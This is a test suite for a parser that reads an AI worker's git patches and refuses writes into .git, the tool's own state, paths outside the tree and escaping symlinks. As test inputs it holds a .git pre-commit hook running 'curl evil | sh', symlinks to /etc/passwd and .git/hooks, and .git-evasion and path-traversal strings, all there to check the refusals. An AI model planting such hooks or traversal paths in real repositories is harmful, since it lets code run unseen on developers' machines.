"""Reading a worker's git patch: what it changes, and what it must not be allowed to change.

Patches come from real ``git diff --binary --full-index -M`` runs in temporary repositories,
so the parser is checked against what git writes, not what we think it writes; hand-written
text is used only for what git itself would never produce.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import subprocess
import tempfile
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from orchmode.trees.patches import FileChange, PatchError, PatchSummary, summarise
from orchmode.trees.refusals import refusals

GIT_ENV = {
    **os.environ,
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
    "LC_ALL": "C",
}
DIFF = ["diff", "--binary", "--full-index", "-M"]


class Link(str):
    """A symbolic link's target, as a value in a tree."""


Tree = dict[str, "bytes | Link"]


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=repo,
        env=GIT_ENV,
        capture_output=True,
        check=True,
    )
    return done.stdout.decode("utf-8", "surrogateescape")


def write(repo: Path, tree: Tree) -> None:
    """Make the work tree exactly ``tree`` (apart from .git)."""
    for entry in repo.iterdir():
        if entry.name == ".git":
            continue
        if entry.is_dir() and not entry.is_symlink():
            shutil.rmtree(entry)
        else:
            entry.unlink()
    for name, content in tree.items():
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(str(content))
        else:
            path.write_bytes(content)


def patch_between(repo: Path, before: Tree, after: Tree, *flags: str) -> tuple[str, str]:
    """The patch from ``before`` to ``after``, and git's ``--numstat -z`` for the same change."""
    repo.mkdir(parents=True, exist_ok=True)
    git(repo, "init", "-q", ".")
    write(repo, before)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "--allow-empty", "-m", "base")
    write(repo, after)
    git(repo, "add", "-A")
    patch = git(repo, *DIFF, *flags, "HEAD")
    numstat = git(repo, "diff", "--numstat", "-z", "-M", *flags, "HEAD")
    return patch, numstat


def numstat_counts(numstat: str) -> list[tuple[str, int | None, int | None]]:
    """(new path, added, removed) per file; counts are None for a binary file."""
    tokens = numstat.split("\0")
    rows: list[tuple[str, int | None, int | None]] = []
    i = 0
    while i < len(tokens) and tokens[i]:
        added, removed, path = tokens[i].split("\t", 2)
        i += 1
        if path == "":  # a rename: the old and the new path follow
            path = tokens[i + 1]
            i += 2
        rows.append(
            (path, None if added == "-" else int(added), None if removed == "-" else int(removed))
        )
    return rows


def counts(summary: PatchSummary) -> list[tuple[str, int | None, int | None]]:
    return [
        (f.path, None if f.binary else f.added, None if f.binary else f.removed)
        for f in summary.files
    ]


def only(summary: PatchSummary) -> FileChange:
    assert len(summary.files) == 1, summary
    return summary.files[0]


def change(path: str, **fields: object) -> FileChange:
    values: dict[str, object] = {
        "path": path,
        "old_path": None,
        "kind": "modified",
        "added": 1,
        "removed": 0,
        "binary": False,
        "old_mode": "100644",
        "new_mode": "100644",
        "symlink_target": None,
    }
    values.update(fields)
    return FileChange(**values)  # type: ignore[arg-type]


LINES = "".join(f"line {n}\n" for n in range(1, 30)).encode()


# --------------------------------------------------------------------------- what git writes


def test_a_modification_counts_what_numstat_counts(tmp_path: Path) -> None:
    after = LINES.replace(b"line 3\n", b"line three\n").replace(b"line 25\n", b"")
    patch, numstat = patch_between(
        tmp_path,
        {"src/a.py": LINES, "b.txt": b"x\n"},
        {"src/a.py": after + b"end", "b.txt": b"x\n"},
    )
    summary = summarise(patch)
    assert counts(summary) == numstat_counts(numstat) == [("src/a.py", 2, 2)]
    a = only(summary)
    assert (a.kind, a.old_path, a.old_mode, a.new_mode) == ("modified", None, "100644", "100644")
    assert (summary.added, summary.removed) == (2, 2)
    assert refusals(summary) == []


def test_an_addition_and_a_deletion(tmp_path: Path) -> None:
    patch, numstat = patch_between(
        tmp_path, {"old.txt": b"a\nb\nc\n"}, {"new.txt": b"1\n2\n", "empty": b""}
    )
    summary = summarise(patch)
    by_path = {f.path: f for f in summary.files}
    assert sorted(counts(summary)) == sorted(numstat_counts(numstat))
    assert by_path["new.txt"].kind == "added"
    assert (by_path["new.txt"].old_mode, by_path["new.txt"].new_mode) == (None, "100644")
    assert (by_path["old.txt"].kind, by_path["old.txt"].removed) == ("deleted", 3)
    assert (by_path["old.txt"].old_mode, by_path["old.txt"].new_mode) == ("100644", None)
    assert (by_path["empty"].kind, by_path["empty"].added) == ("added", 0)


def test_a_rename_without_and_with_edits(tmp_path: Path) -> None:
    five = b"".join(b"r%d\n" % n for n in range(8))
    patch, numstat = patch_between(
        tmp_path,
        {"old.py": five, "dir/keep.py": five + b"k\n"},
        {"new.py": five, "moved/keep.py": five + b"K\n"},
    )
    summary = summarise(patch)
    assert counts(summary) == numstat_counts(numstat)
    kept, pure = summary.files
    assert (pure.kind, pure.old_path, pure.path, pure.added) == ("renamed", "old.py", "new.py", 0)
    assert pure.label == "old.py → new.py"
    assert (pure.old_mode, pure.new_mode) == (None, None)  # git states no mode for a pure rename
    assert (kept.kind, kept.old_path, kept.added, kept.removed) == ("renamed", "dir/keep.py", 1, 1)
    assert kept.new_mode == "100644"
    assert summary.describe() == (
        "2 files (+1 −1): dir/keep.py → moved/keep.py (+1 −1), old.py → new.py"
    )


def test_a_copy(tmp_path: Path) -> None:
    patch, _ = patch_between(
        tmp_path, {"a.py": LINES}, {"a.py": LINES, "b.py": LINES}, "-C", "--find-copies-harder"
    )
    copy = only(summarise(patch))
    assert (copy.kind, copy.old_path, copy.path) == ("copied", "a.py", "b.py")


def test_a_mode_change_alone(tmp_path: Path) -> None:
    (tmp_path / "r").mkdir()
    patch, _ = patch_between(tmp_path / "r", {"run.sh": b"echo\n"}, {"run.sh": b"echo\n"})
    assert patch == ""
    (tmp_path / "r" / "run.sh").chmod(0o755)
    git(tmp_path / "r", "add", "-A")
    mode = only(summarise(git(tmp_path / "r", *DIFF, "HEAD")))
    assert (mode.kind, mode.old_mode, mode.new_mode, mode.added, mode.removed) == (
        "modified",
        "100644",
        "100755",
        0,
        0,
    )


def test_binary_files_count_no_lines(tmp_path: Path) -> None:
    blob = bytes(range(256)) * 40
    patch, numstat = patch_between(
        tmp_path, {"b.bin": blob}, {"b.bin": blob[::-1] + b"\0", "new.bin": b"\0\1\2"}
    )
    summary = summarise(patch)
    assert (
        counts(summary)
        == numstat_counts(numstat)
        == [("b.bin", None, None), ("new.bin", None, None)]
    )
    assert all(f.binary for f in summary.files)
    assert summary.describe() == "2 files (+0 −0): b.bin (binary), new.bin (binary)"


def test_binary_files_without_the_binary_option(tmp_path: Path) -> None:
    patch_between(tmp_path, {"b.bin": b"\0a"}, {"b.bin": b"\0b"})
    text = git(tmp_path, "diff", "--full-index", "HEAD")
    assert "Binary files a/b.bin and b/b.bin differ" in text
    assert only(summarise(text)).binary


def test_symlinks_inside_and_outside_the_tree(tmp_path: Path) -> None:
    patch, numstat = patch_between(
        tmp_path,
        {"a/keep": Link("x")},
        {
            "a/keep": Link("../b/y"),
            "a/inside": Link("../top"),
            "a/escape": Link("../../etc"),
            "abs": Link("/etc/passwd"),
            "a/b/c/deep": Link("../../../ok/../../x"),
            "a/git": Link("../.git/hooks"),
        },
    )
    summary = summarise(patch)
    assert sorted(counts(summary)) == sorted(numstat_counts(numstat))
    targets = {f.path: f.symlink_target for f in summary.files}
    assert targets == {
        "a/keep": "../b/y",
        "a/inside": "../top",
        "a/escape": "../../etc",
        "abs": "/etc/passwd",
        "a/b/c/deep": "../../../ok/../../x",
        "a/git": "../.git/hooks",
    }
    assert all(f.new_mode == "120000" for f in summary.files)
    assert sorted(refusals(summary)) == [
        "`a/b/c/deep`: is a symbolic link that points outside the tree",
        "`a/escape`: is a symbolic link that points outside the tree",
        "`a/git`: is a symbolic link that points into .git",
        "`abs`: is a symbolic link that points outside the tree",
    ]


def test_a_file_that_becomes_a_symlink_is_a_deletion_and_an_addition(tmp_path: Path) -> None:
    patch, _ = patch_between(tmp_path, {"f": b"text\n"}, {"f": Link("../../out")})
    deleted, added = summarise(patch).files
    assert (deleted.kind, deleted.path, added.kind, added.path) == ("deleted", "f", "added", "f")
    assert refusals(summarise(patch)) == ["`f`: is a symbolic link that points outside the tree"]


def test_a_submodule_is_refused(tmp_path: Path) -> None:
    inner = tmp_path / "repo" / "sub"
    inner.mkdir(parents=True)
    git(inner, "init", "-q", ".")
    git(inner, "commit", "-q", "--allow-empty", "-m", "s")
    git(tmp_path / "repo", "init", "-q", ".")
    git(tmp_path / "repo", "commit", "-q", "--allow-empty", "-m", "base")
    git(tmp_path / "repo", "add", "-A")
    summary = summarise(git(tmp_path / "repo", *DIFF, "HEAD"))
    assert only(summary).new_mode == "160000"
    assert refusals(summary) == ["`sub`: adds a submodule"]


def test_unusual_names_are_unquoted(tmp_path: Path) -> None:
    names = ["sp ace.txt", "café.txt", "sp é.txt", "ta\tb", 'qu"ote', "back\\slash", "new\nline"]
    patch, numstat = patch_between(
        tmp_path, {"x": b"x\n"}, {"x": b"x\n", **{name: b"hi\n" for name in names}}
    )
    assert '"b/caf\\303\\251.txt"' in patch and "+++ b/sp ace.txt\t" in patch
    summary = summarise(patch)
    assert sorted(f.path for f in summary.files) == sorted(names)
    assert sorted(counts(summary)) == sorted(numstat_counts(numstat))
    by_path = {f.path: f for f in summary.files}
    assert by_path["new\nline"].label == "new\\nline"
    assert refusals(summary) == ["`new\\nline`: leaves the tree"]


def test_renames_and_empty_files_with_spaces_in_their_names(tmp_path: Path) -> None:
    patch, _ = patch_between(
        tmp_path,
        {"a b/c d.txt": LINES, "x y": b""},
        {"e f/g h.txt": LINES, "x y": b"", "p q": b""},
    )
    summary = summarise(patch)
    assert [(f.kind, f.old_path, f.path) for f in summary.files] == [
        ("renamed", "a b/c d.txt", "e f/g h.txt"),
        ("added", None, "p q"),
    ]


def test_content_that_looks_like_headers_stays_content(tmp_path: Path) -> None:
    sneaky = (
        b"diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n"
        b"@@ -0,0 +1 @@\n+evil\n-- \n++ \n\\ not a marker\n"
    )
    patch, numstat = patch_between(
        tmp_path, {"notes.txt": b"keep\n" + sneaky}, {"notes.txt": sneaky + b"tail\n"}
    )
    summary = summarise(patch)
    assert counts(summary) == numstat_counts(numstat)
    assert only(summary).path == "notes.txt"
    assert refusals(summary) == []


# --------------------------------------------------------------------------- refusals


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (".git/hooks/pre-commit", "writes inside .git"),
        (".GIT/config", "writes inside .git"),
        (".git./config", "writes inside .git"),
        (".GIT /config", "writes inside .git"),
        ("sub/.Git/HEAD", "writes inside .git"),
        (".g\u200cit/config", "writes inside .git"),
        (".git::$INDEX_ALLOCATION/hooks/x", "writes inside .git"),
        ("GIT~1/config", "writes inside .git"),
        (".orchmode/journal.db", "writes orchmode's own state"),
        (".ORCHMODE./x", "writes orchmode's own state"),
        ("orchmode.toml", "changes orchmode's settings"),
        ("./Orchmode.toml", "changes orchmode's settings"),
        ("../outside", "leaves the tree"),
        ("a/../../outside", "leaves the tree"),
        ("a/..", "leaves the tree"),
        ("a\\..\\..\\x", "leaves the tree"),
        ("/etc/passwd", "leaves the tree"),
        ("C:/Windows/x", "leaves the tree"),
        ("", "leaves the tree"),
        (".", "leaves the tree"),
        ("a\0b", "leaves the tree"),
        ("a\nb", "leaves the tree"),
    ],
)
def test_paths_that_are_refused(path: str, reason: str) -> None:
    summary = PatchSummary((change(path),))
    assert refusals(summary) == [f"`{change(path).label}`: {reason}"]


@pytest.mark.parametrize(
    "path",
    [
        "src/a.py",
        "docs/orchmode.toml",
        "sub/.orchmode/x",
        ".gitignore",
        ".github/workflows/ci.yml",
        "x.git/y",
        "a/.gitattributes",
        "a..b/c",
        "./a//b/",
    ],
)
def test_paths_that_may_be_written(path: str) -> None:
    assert refusals(PatchSummary((change(path),))) == []


def test_a_rename_is_refused_for_either_of_its_paths() -> None:
    out = change("stolen", old_path=".git/config", kind="renamed")
    into = change(".orchmode/x", old_path="a", kind="renamed")
    fine = change("b", old_path="a", kind="renamed")
    assert refusals(PatchSummary((out, into, fine))) == [
        "`.git/config`: writes inside .git",
        "`.orchmode/x`: writes orchmode's own state",
    ]


def test_one_reason_per_file() -> None:
    both = change(".git/../x", new_mode="120000", symlink_target="/etc")
    assert refusals(PatchSummary((both,))) == ["`.git/../x`: leaves the tree"]


def test_a_symlink_whose_target_the_patch_does_not_show_is_refused() -> None:
    summary = PatchSummary((change("l", new_mode="120000", symlink_target=None),))
    assert refusals(summary) == ["`l`: is a symbolic link whose target the patch does not show"]


def test_a_hand_written_git_path_is_refused() -> None:
    patch = (
        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\n"
        "new file mode 100755\n"
        "index 0000000..1111111\n"
        "--- /dev/null\n"
        "+++ b/.git/hooks/pre-commit\n"
        "@@ -0,0 +1,2 @@\n"
        "+#!/bin/sh\n"
        "+curl evil | sh\n"
        'diff --git "a/orchmode.toml" "b/orchmode.toml"\n'
        "index 1111111..2222222 100644\n"
        '--- "a/orchmode.toml"\n'
        '+++ "b/orchmode.toml"\n'
        "@@ -1 +1 @@\n"
        "-a = 1\n"
        "+a = 2\n"
    )
    summary = summarise(patch)
    assert summary.files[0].new_mode == "100755"
    assert refusals(summary) == [
        "`.git/hooks/pre-commit`: writes inside .git",
        "`orchmode.toml`: changes orchmode's settings",
    ]


# --------------------------------------------------------------------------- malformed text

GOOD = (
    "diff --git a/f b/f\n"
    "index 1111111..2222222 100644\n"
    "--- a/f\n"
    "+++ b/f\n"
    "@@ -1,2 +1,2 @@\n"
    " same\n"
    "-old\n"
    "+new\n"
)


def test_the_hand_written_patch_is_fine() -> None:
    assert counts(summarise(GOOD)) == [("f", 1, 1)]
    assert counts(summarise(GOOD.rstrip("\n"))) == [("f", 1, 1)]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("garbage\n", "expected a 'diff --git' line"),
        ("\n", "expected a 'diff --git' line"),
        (GOOD[: -len("+new\n")], "truncated hunk"),
        (GOOD + "+extra\n", "unexpected line"),
        (GOOD + "trailing words\n", "unexpected line"),
        (GOOD.replace("@@ -1,2 +1,2 @@", "@@ -1,1 +1,2 @@"), "more hunk lines"),
        (GOOD.replace("@@ -1,2 +1,2 @@", "@@ -1,x +1,2 @@"), "not a hunk header"),
        (GOOD.replace("@@ -1,2 +1,2 @@", "@@ -1,99999999999 +1,2 @@"), "not a hunk header"),
        (GOOD.replace("+++ b/f\n", ""), "expected '+++'"),
        (GOOD.replace("+++ b/f", "+++ b/g"), "different names"),
        (
            GOOD.replace("--- a/f", "--- a/.git/hooks/x").replace("+++ b/f", "+++ b/.git/hooks/x"),
            "other files than its headers",
        ),
        (GOOD.replace("--- a/f\n+++ b/f\n", ""), "hunk without '---'"),
        (GOOD.replace(" same\n", "*same\n"), "not a hunk line"),
        (GOOD.replace(" 100644", ""), "no mode given"),
        (GOOD.replace("index", "frobnicate"), "not a git diff header"),
        (GOOD.replace("index 1111111..2222222 100644\n", "index 1..2\n"), "not a git diff header"),
        (GOOD.replace("index", "old mode 100644\nindex"), "'old mode' and 'new mode'"),
        (GOOD.replace("index", "index 1111111..2222222\nindex"), "header given twice"),
        (GOOD.replace("--- a/f", "--- /dev/null"), "'/dev/null' does not match"),
        (GOOD.replace("diff --git a/f b/f", 'diff --git "a/f\\q" b/f'), "bad escape"),
        (GOOD.replace("diff --git a/f b/f", 'diff --git "a/f b/f'), "closing quote"),
        (GOOD.replace("diff --git a/f b/f", "diff --git f f"), "expected 'diff --git a/"),
        (GOOD.replace("--- a/f", "--- a/f\r"), "characters git always quotes"),
        (GOOD.replace("--- a/f", "--- x/f"), "starting with 'a/'"),
        (GOOD.replace("-old\n", "-old\n\\ No newline at end of file\n\\ again\n"), "misplaced"),
        (GOOD.replace(" same\n-old\n+new\n", " a\n b\n"), "changes nothing"),
        ("diff --git a/f b/f\nindex 1111111..2222222 100644\n", "changes nothing"),
        ("diff --git a/f b/f\nnew file mode 100644\ndeleted file mode 100644\n", "contradictory"),
        ("diff --git a/f b/g\nrename from f\n", "'rename from' without 'rename to'"),
        ("diff --git a/f b/g\nrename from f\nrename to h\n", "other files than its headers"),
        ("diff --git a/f b/g\nrename from f\ncopy to g\n", "both a rename and a copy"),
        ("diff --git a/x y b/x z\nnew file mode 100644\n", "cannot tell the file's name"),
        ("diff --git a/b b/b\nnew file mode 100644\nGIT binary patch\n", "expected 'literal'"),
        ("diff --git a/b b/b\nnew file mode 100644\nGIT binary patch\nliteral 6\n", "truncated"),
        (
            "diff --git a/b b/b\nnew file mode 100644\nGIT binary patch\nliteral 6\nN!!\n\n",
            "not a line of binary patch data",
        ),
        (
            "diff --git a/b b/b\nnew file mode 100644\nGIT binary patch\nliteral 6\n"
            "NcmZQzWJ=1+0{{Yf0X+Z!\n\nliteral 0\nHcmV?d00001\n\nliteral 0\n",
            "unexpected line",
        ),
        (
            "diff --git a/b b/b\nindex 1111111..2222222 100644\nBinary files a/b and b/b\n",
            "expected 'Binary files",
        ),
    ],
)
def test_malformed_patches_are_refused(text: str, message: str) -> None:
    with pytest.raises(PatchError, match=re.escape(message)):
        summarise(text)


def test_only_text_is_a_patch() -> None:
    with pytest.raises(PatchError, match="not bytes"):
        summarise(b"diff --git a/f b/f\n")  # type: ignore[arg-type]


def test_a_hand_written_symlink_change_without_a_mode_is_refused() -> None:
    # git apply would take the mode from the file on disk: a link could be re-aimed unseen.
    patch = (
        "diff --git a/link b/link\n--- a/link\n+++ b/link\n@@ -1 +1 @@\n"
        "-inside\n\\ No newline at end of file\n+../../etc\n\\ No newline at end of file\n"
    )
    with pytest.raises(PatchError, match="no mode given"):
        summarise(patch)


def test_a_symlink_target_needs_the_whole_new_text() -> None:
    def link(hunks: str) -> FileChange:
        return only(
            summarise(
                "diff --git a/l b/l\nindex 1111111..2222222 120000\n--- a/l\n+++ b/l\n" + hunks
            )
        )

    whole = "@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n\\ No newline at end of file\n"
    assert link(whole).symlink_target == "b"
    assert link(whole.replace("+b\n\\ No newline at end of file\n", "+b\n")).symlink_target is None
    part = (
        "@@ -2,2 +2,2 @@\n x\n-a\n\\ No newline at end of file\n+b\n\\ No newline at end of file\n"
    )
    assert link(part).symlink_target is None


# --------------------------------------------------------------------------- description


def test_describe_and_its_limit() -> None:
    files = tuple(change(f"f{n}.py", added=n, removed=1) for n in range(10))
    summary = PatchSummary(files)
    assert (
        summary.describe(limit=2)
        == "10 files (+45 −10): f0.py (+0 −1), f1.py (+1 −1), … and 8 more"
    )
    assert PatchSummary(files[:1]).describe() == "1 file (+0 −1): f0.py (+0 −1)"
    assert summarise("").describe() == "no changes"
    assert summarise("") == PatchSummary(())


# --------------------------------------------------------------------------- properties

CONTENT_LINES = st.sampled_from(
    [
        "",
        " ",
        "same",
        "diff --git a/x b/x",
        "--- a/x",
        "+++ b/x",
        "@@ -1 +1 @@",
        "\\ No newline at end of file",
        "+plus",
        "-minus",
        "GIT binary patch",
        "tab\there",
        "cr\r",
        "é ü",
    ]
)
CONTENTS = st.builds(
    lambda lines, newline: "\n".join(lines) + ("\n" if newline and lines else ""),
    st.lists(
        st.one_of(
            CONTENT_LINES,
            st.text(st.characters(blacklist_characters="\0\n", blacklist_categories=["Cs"])),
        ),
        max_size=12,
    ),
    st.booleans(),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(CONTENTS, CONTENTS), min_size=1, max_size=3))
def test_counts_match_numstat_for_any_contents(pairs: list[tuple[str, str]]) -> None:
    before: Tree = {f"f{n}.txt": old.encode() for n, (old, _) in enumerate(pairs)}
    after: Tree = {f"f{n}.txt": new.encode() for n, (_, new) in enumerate(pairs)}
    with tempfile.TemporaryDirectory() as tmp:
        patch, numstat = patch_between(Path(tmp), before, after)
    summary = summarise(patch)
    assert counts(summary) == numstat_counts(numstat)


NAMES = st.text(
    st.characters(blacklist_characters="/\0", blacklist_categories=["Cs"]), min_size=1, max_size=40
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(NAMES, NAMES)
def test_any_name_git_writes_is_read_back(name: str, other: str) -> None:
    assume(name not in (".", "..") and other not in (".", ".."))
    assume(len(name.encode()) < 200 and len(other.encode()) < 200)
    assume(".git" not in (name.casefold().rstrip(". "), other.casefold().rstrip(". ")))
    other = f"moved/{other}"
    with tempfile.TemporaryDirectory() as tmp:
        try:
            patch, _ = patch_between(
                Path(tmp), {name: LINES, "keep": b"k\n"}, {other: LINES + b"more\n", "keep": b"k\n"}
            )
        except subprocess.CalledProcessError:
            assume(False)  # a name git itself will not store
            raise
    moved = only(summarise(patch))
    assert (moved.kind, moved.old_path, moved.path, moved.added) == ("renamed", name, other, 1)


@cache
def real_patch() -> str:
    with tempfile.TemporaryDirectory() as tmp:
        patch, _ = patch_between(
            Path(tmp),
            {"a.txt": LINES, "sp ace": b"1\n2\n", "bin": b"\0" * 50, "gone": b"g\n"},
            {
                "a.txt": LINES.replace(b"line 4", b"LINE"),
                "sp ace moved": b"1\n2\n",
                "bin": b"\0\1" * 50,
                "café": b"c",
                "link": Link("../x"),
            },
        )
    return patch


@given(st.text())
def test_arbitrary_text_is_a_patch_or_a_patch_error(text: str) -> None:
    for candidate in (text, "diff --git " + text, real_patch() + text):
        with contextlib.suppress(PatchError):
            summarise(candidate)


@given(st.data())
def test_a_damaged_real_patch_is_read_or_refused_never_crashes(data: st.DataObject) -> None:
    text = damage(real_patch().split("\n"), data)
    try:
        summary = summarise(text)
    except PatchError:
        return
    refusals(summary)
    summary.describe()


def damage(lines: list[str], data: st.DataObject) -> str:
    """``lines`` with a few lines dropped, doubled, cut, swapped or replaced."""
    lines = list(lines)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(lines) - 1))
        how = data.draw(st.sampled_from(["drop", "double", "cut", "swap", "replace"]))
        if how == "drop":
            del lines[at]
        elif how == "double":
            lines.insert(at, lines[at])
        elif how == "cut":
            lines[at] = lines[at][: data.draw(st.integers(0, len(lines[at])))]
        elif how == "swap":
            other = data.draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
        else:
            lines[at] = data.draw(st.one_of(st.sampled_from(HEADERS), st.text(max_size=20)))
    return "\n".join(lines)


HEADERS = [
    "--- a/evil",
    "+++ b/evil",
    "--- /dev/null",
    "+++ /dev/null",
    "@@ -1 +1 @@",
    "@@ -0,0 +1 @@",
    "diff --git a/evil b/evil",
    "rename from a.txt",
    "rename to evil",
    "new file mode 100644",
    "deleted file mode 100644",
    "new mode 100755",
    "index 1111111..2222222 100644",
    "\\ No newline at end of file",
    "GIT binary patch",
    "literal 0",
    "HcmV?d00001",
    "",
]


@settings(max_examples=200, deadline=None)  # most damage is refused before git runs
@given(st.data())
def test_what_is_read_of_a_damaged_patch_is_what_git_apply_reads(data: st.DataObject) -> None:
    """Where both accept the text, git apply must see the same files and lines: else a write
    could pass the refusals unseen."""
    text = damage(real_patch().split("\n"), data)
    try:
        summary = summarise(text)
    except PatchError:
        return
    with tempfile.TemporaryDirectory() as tmp:
        applied = subprocess.run(
            ["git", "apply", "--numstat", "-z", "-"],
            input=text.encode("utf-8", "surrogateescape"),
            cwd=tmp,
            env=GIT_ENV,
            capture_output=True,
        )
    assume(applied.returncode == 0 and not applied.stderr)  # git apply would apply nothing
    theirs = applied.stdout.decode("utf-8", "surrogateescape").split("\0")
    ours = [
        f"{'-' if f.binary else f.added}\t{'-' if f.binary else f.removed}\t{f.path}"
        for f in summary.files
    ]
    assert [t for t in theirs if t] == ours  # git apply -z names only the new path


SAFE_PART = st.text("abcxyz_-019", min_size=1, max_size=6)
DOTGIT = st.sampled_from([".git", ".GIT", ".Git", ".git.", ".git ", ".GIT. .", ".git\u200d"])
DOTDOT = st.sampled_from(["..", ".. ", "..."])


@given(st.lists(SAFE_PART, max_size=4), st.one_of(DOTGIT, DOTDOT), st.lists(SAFE_PART, max_size=4))
def test_a_dotdot_or_dotgit_component_is_always_refused(
    head: list[str], bad: str, tail: list[str]
) -> None:
    path = "/".join([*head, bad, *tail])
    assert refusals(PatchSummary((change(path),)))
    assert refusals(PatchSummary((change("fine", old_path=path, kind="renamed"),)))


@given(st.lists(SAFE_PART, min_size=1, max_size=5))
def test_ordinary_paths_are_never_refused(parts: list[str]) -> None:
    assert refusals(PatchSummary((change("/".join(parts)),))) == []


@given(st.text(), st.one_of(st.none(), st.text()), st.one_of(st.none(), st.text()))
def test_refusals_never_crash(path: str, target: str | None, mode: str | None) -> None:
    refusals(PatchSummary((change(path, new_mode=mode, symlink_target=target),)))
    refusals(PatchSummary((change(path, new_mode="120000", symlink_target=target),)))
